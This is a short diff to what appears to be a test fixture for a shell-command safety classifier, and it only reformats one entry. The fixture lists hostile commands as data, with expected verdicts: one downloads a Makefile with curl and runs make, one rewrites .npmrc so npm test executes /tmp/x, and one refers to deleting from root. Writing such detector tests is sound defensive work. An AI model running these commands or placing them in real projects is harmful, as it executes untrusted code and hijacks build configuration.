@@ -16,7 +16,10 @@ SEEN = {
         "delete / @root whole hard",
     ),
     "fetched": ("curl -o Makefile x.example; make", "load:fetched-file Makefile via config by Makefile job hard"),
-    "npmrc": ("echo 'script-shell=/tmp/x' > .npmrc; npm test", "run /tmp/x via config by .npmrc: script-shell dangerous"),
+    "npmrc": (
+        "echo 'script-shell=/tmp/x' > .npmrc; npm test",
+        "run /tmp/x via config by .npmrc: script-shell dangerous",
+    ),
 }
 
 
